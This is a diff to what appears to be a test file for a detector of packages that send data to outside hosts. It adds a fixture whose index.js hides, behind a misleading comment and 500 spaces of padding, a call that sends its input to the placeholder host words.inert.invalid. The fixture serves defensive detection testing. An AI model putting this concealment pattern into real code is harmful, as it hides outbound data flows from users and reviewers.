@@ -12,6 +12,15 @@ const beaconTo = (host: string): string =>
 examine(sendsWhatItIsGiven, {
   speaks: [
     {
+      when: 'what throws the answer away has a name, and a comment has that of another which reads it',
+      files: {
+        'package.json': made,
+        'README.md': QUIET,
+        'index.js': `const https = require('https'); // function past(answer) { answer.on('data', shown) }\n${' '.repeat(500)}\nconst past = answer => { answer.resume(); failed = 1 }; exports.define = word => { https.get('https://words.inert.invalid/?w=' + word, past) };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'what throws the answer away has a name, and stands elsewhere',
       files: {
         'package.json': made,
